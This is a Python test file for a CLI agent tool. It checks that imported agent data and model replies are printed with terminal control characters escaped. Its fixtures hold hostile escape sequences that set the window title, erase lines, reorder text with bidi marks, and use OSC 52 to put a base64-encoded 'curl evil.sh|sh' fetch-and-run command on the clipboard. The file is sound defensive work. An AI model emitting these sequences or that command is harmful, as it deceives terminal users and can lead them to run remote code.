"""The terminal shows text from an imported file or the model as the characters it holds (issue 35,
item 2): an agent's name, blocks, history, a snapshot's reason, a tool's code and the agent's
reply reach the terminal with their control characters escaped, so they cannot set the window's
title or the clipboard (OSC 0, OSC 52), erase or move lines, or reorder what is shown (bidi)."""

from __future__ import annotations

import io
import json

from memdesk.cli.main import main
from memdesk.cli.terminal_listener import TerminalListener

TITLE = "\x1b]0;owned\x07"  # OSC 0: sets the terminal's title
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # OSC 52: writes the clipboard
ERASE = "\x1b[2K\x1b[1G\x1b[1A"  # erases its line and moves up: hides what came before
CSI = "\x9b2J"  # the C1 control sequence introducer: clears the screen on some terminals
BIDI = "\u2067\u202e"
HOSTILE = TITLE + CLIPBOARD + ERASE + CSI + BIDI
#: What any of them shows as once escaped.
ESCAPED = ("\\x1b]0;owned\\x07", "\\x1b]52;c;", "\\x1b[2K", "\\x9b2J", "\\u2067\\u202e")
CONTROLS = ("\x1b", "\x07", "\x9b", "\u2067", "\u202e")


def hostile_agent_file(path) -> None:
    document = {
        "agents": [
            {
                "id": "agent-0",
                "name": f"Sam{HOSTILE}",
                "system": f"You are Sam.{HOSTILE}",
                "block_ids": ["block-0"],
                "tool_ids": ["tool-0"],
                "messages": [],
            }
        ],
        "blocks": [{"id": "block-0", "label": "human", "value": f"Name: Ann{HOSTILE}", "limit": 2000}],
        "tools": [
            {
                "id": "tool-0",
                "name": "lookup",
                "tool_type": "custom",
                "description": f"Looks things up.{HOSTILE}",
                "source_code": f"def lookup(query: str):\n    return query  # {ERASE}harmless\n",
                "json_schema": {
                    "name": "lookup",
                    "parameters": {"type": "object", "properties": {"query": {"type": "string"}}},
                },
            }
        ],
        "groups": [],
        "files": [],
        "sources": [],
        "mcp_servers": [],
    }
    path.write_text(json.dumps(document), encoding="utf-8")


def assert_escaped(text: str) -> None:
    assert not any(c in text for c in CONTROLS), repr(text)


def test_every_command_prints_an_imported_agents_text_escaped(capsys, tmp_path):
    path = tmp_path / f"sam{TITLE}.af"  # the file's name becomes a snapshot's reason and a history note
    hostile_agent_file(path)
    assert main(["agents", "import", str(path)]) == 0
    printed = [capsys.readouterr()]
    name = f"Sam{HOSTILE}"
    for command in (
        ["agents"],
        ["memory", name],
        ["history", name, "--diff"],
        ["agents", "tools", name],
        ["agents", "tools", name, "--show", "lookup"],
        ["backup", "list"],
    ):
        assert main(command) == 0, command
        printed.append(capsys.readouterr())
    everything = "".join(p.out + p.err for p in printed)
    assert_escaped(everything)
    assert all(escaped in everything for escaped in ESCAPED)
    assert "return query  # \\x1b[2K\\x1b[1G\\x1b[1Aharmless" in everything  # the code, as stored


def test_a_question_and_an_error_naming_the_agent_are_escaped(capsys, tmp_path, monkeypatch):
    path = tmp_path / "sam.af"
    hostile_agent_file(path)
    main(["agents", "import", str(path)])
    asked: list[str] = []
    monkeypatch.setattr("builtins.input", lambda prompt: asked.append(prompt) or "n")
    assert main(["agents", "delete", f"Sam{HOSTILE}"]) == 1
    assert main(["agents", "tools", f"Sam{HOSTILE}", "--show", f"nothing{TITLE}"]) == 1
    assert main(["memory", f"Nobody{CLIPBOARD}"]) == 1
    printed = capsys.readouterr()
    assert_escaped("".join(asked) + printed.out + printed.err)
    assert asked[0].startswith("Delete Sam\\x1b]0;owned\\x07")


def test_the_chat_prints_the_agents_reply_escaped():
    out, err = io.StringIO(), io.StringIO()
    listener = TerminalListener(True, f"Sam{HOSTILE}", out=out, err=err)
    listener.on_streamed("message", f"Hello{ERASE}")
    listener.on_streamed("message", f" there{TITLE}")
    listener.on_event("eviction", f"moved out{CLIPBOARD}")
    listener.end_line()
    listener.on_retention_waits(1, f"3 messages{BIDI}")
    assert_escaped(out.getvalue() + err.getvalue())
    assert "agent> Hello\\x1b[2K\\x1b[1G\\x1b[1A there\\x1b]0;owned\\x07\n" in out.getvalue()
